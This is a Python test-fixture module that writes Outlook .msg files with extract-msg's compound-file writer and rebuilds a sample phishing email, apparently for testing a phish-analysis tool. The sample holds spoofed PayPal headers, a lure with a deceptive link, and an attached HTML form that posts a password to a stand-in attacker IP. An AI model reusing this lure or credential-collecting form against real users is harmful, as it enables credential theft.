"""Outlook .msg files for tests, written with extract-msg's own compound-file writer (OleWriter).

build_msg() lays out the streams MS-OXMSG names for a received message: the property stream
(__properties_version1.0, its header giving the attachment count), the message class (IPM.Note), the
transport headers (PR_TRANSPORT_MESSAGE_HEADERS, 007D001F), subject (0037001F), plain-text body
(1000001F), HTML body (10130102), an empty named-property map (__nameid_version1.0) and one storage per
attachment with its data (37010102), long file name (3707001F) and MIME tag (370E001F). Strings are
UTF-16LE (property type 001F). Run as a script, it rebuilds samples/outlook-phish.msg.
"""

from __future__ import annotations

import io
import struct
import sys
from collections.abc import Sequence
from pathlib import Path

from extract_msg.ole_writer import OleWriter

_ATTACH = "__attach_version1.0_#{:08X}"
_EMBEDDED = "__substg1.0_3701000D"  # an attached Outlook item: a storage holding a whole message


def _utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def _message_streams(writer: OleWriter, prefix: str, headers: str | None, subject: str, body: str | None,
                     html: bytes | None, attachments: Sequence[tuple[str, str, bytes]], top: bool,
                     embedded: tuple[str, str, str] | None = None) -> None:
    count = len(attachments) + (embedded is not None)
    # MS-OXMSG §2.4.1.1: the top level's header has 32 bytes (next recipient/attachment ids and counts),
    # an embedded message's 24.
    header = bytes(8) + struct.pack("<IIII", 0, count, 0, count) + (bytes(8) if top else b"")
    writer.addEntry(prefix + "__properties_version1.0", header)
    writer.addEntry(prefix + "__substg1.0_001A001F", _utf16("IPM.Note"))
    writer.addEntry(prefix + "__substg1.0_0037001F", _utf16(subject))
    if headers is not None:
        writer.addEntry(prefix + "__substg1.0_007D001F", _utf16(headers))
    if body is not None:
        writer.addEntry(prefix + "__substg1.0_1000001F", _utf16(body))
    if html is not None:
        writer.addEntry(prefix + "__substg1.0_10130102", html)
    for index, (name, mimetype, data) in enumerate(attachments):
        storage = prefix + _ATTACH.format(index)
        writer.addEntry(storage, storage=True)
        # One fixed-size property, PR_ATTACH_METHOD (0x3705, PT_LONG): 1 = by value.
        method = struct.pack("<HHI", 0x0003, 0x3705, 6) + struct.pack("<I", 1) + bytes(4)
        writer.addEntry(storage + "/__properties_version1.0", bytes(8) + method)
        writer.addEntry(storage + "/__substg1.0_37010102", data)
        writer.addEntry(storage + "/__substg1.0_3707001F", _utf16(name))
        writer.addEntry(storage + "/__substg1.0_370E001F", _utf16(mimetype))
    if embedded is not None:  # PR_ATTACH_METHOD 5: an Outlook item, stored whole in its own storage
        storage = prefix + _ATTACH.format(len(attachments))
        writer.addEntry(storage, storage=True)
        method = struct.pack("<HHI", 0x0003, 0x3705, 6) + struct.pack("<I", 5) + bytes(4)
        writer.addEntry(storage + "/__properties_version1.0", bytes(8) + method)
        writer.addEntry(storage + "/__substg1.0_3707001F", _utf16(embedded[1] + ".msg"))
        writer.addEntry(storage + "/" + _EMBEDDED, storage=True)
        _message_streams(writer, storage + "/" + _EMBEDDED + "/", embedded[0], embedded[1], embedded[2], None,
                         (), top=False)


def build_msg(headers: str | None, subject: str = "", body: str | None = None, html: bytes | None = None,
              attachments: Sequence[tuple[str, str, bytes]] = (), embedded: tuple[str, str, str] | None = None
              ) -> bytes:
    """A .msg holding a received message; attachments are (file name, MIME type, bytes), embedded an
    attached Outlook item (its transport headers, subject, body), the way Outlook forwards one "as attachment"."""
    writer = OleWriter()
    _message_streams(writer, "", headers, subject, body, html, attachments, top=True, embedded=embedded)
    writer.addEntry("__nameid_version1.0", storage=True)
    for stream in ("00020102", "00030102", "00040102"):  # GUIDs, entries, names: none
        writer.addEntry(f"__nameid_version1.0/__substg1.0_{stream}", b"")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# -- the sample -------------------------------------------------------------------------------------------

SAMPLE_HEADERS = (
    "Received: from AM8PR02MB1234.eurprd02.prod.outlook.example (2603:10a6:20b:1::12) by\r\n"
    " DB9PR02MB5678.eurprd02.prod.outlook.example with HTTPS; Tue, 3 Mar 2026 09:14:07 +0000\r\n"
    "Received: from mail.billing-notice.example.net (203.0.113.45) by\r\n"
    " AM8PR02MB1234.eurprd02.prod.outlook.example (10.167.1.20) with Microsoft SMTP Server\r\n"
    " id 15.20.7452.28; Tue, 3 Mar 2026 09:14:05 +0000\r\n"
    "Authentication-Results: spf=fail (sender IP is 203.0.113.45)\r\n"
    " smtp.mailfrom=paypal.example; dkim=none (message not signed)\r\n"
    " header.d=none;dmarc=fail action=quarantine header.from=paypal.example;\r\n"
    "Received-SPF: Fail (protection.outlook.example: domain of paypal.example does not\r\n"
    " designate 203.0.113.45 as permitted sender)\r\n"
    "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=billing-notice.example.net;\r\n"
    " s=s1; h=from:to:subject:date:message-id;\r\n"
    " bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\r\n"
    " b=dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSwganVzdCBiYXNlNjQgdGV4dA==\r\n"
    "From: \"PayPal Service\" <service@paypal.example>\r\n"
    "To: victim@contoso.example\r\n"
    "Subject: Your account has been limited\r\n"
    "Date: Tue, 3 Mar 2026 09:14:01 +0000\r\n"
    "Message-ID: <3f1c2a9e@mail.billing-notice.example.net>\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: multipart/alternative; boundary=\"=_b1\"\r\n"
    "\r\n"
)
SAMPLE_TEXT = ("Dear customer,\r\n\r\nWe noticed unusual activity. Restore access at "
               "https://paypal.example.account-restore.example/login within 24 hours.\r\n")
SAMPLE_HTML = (b"<html><body><p>Dear customer,</p><p>We noticed unusual activity. "
               b"<a href=\"http://198.51.100.7/paypal/login\">https://www.paypal.example/signin</a></p>"
               b"</body></html>")


def sample_msg() -> bytes:
    """samples/outlook-phish.msg: a phish as Outlook saves it, with a form page attached."""
    page = (b"<html><body><form action=\"http://198.51.100.7/collect\" method=\"post\">"
            b"<input name=\"password\" type=\"password\"></form></body></html>")
    return build_msg(SAMPLE_HEADERS, "Your account has been limited", SAMPLE_TEXT, SAMPLE_HTML,
                     [("Restore_Access.html", "text/html", page)])


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parents[2] / "samples" / "outlook-phish.msg"
    target.write_bytes(sample_msg())
    print(f"wrote {target} ({target.stat().st_size} bytes)")
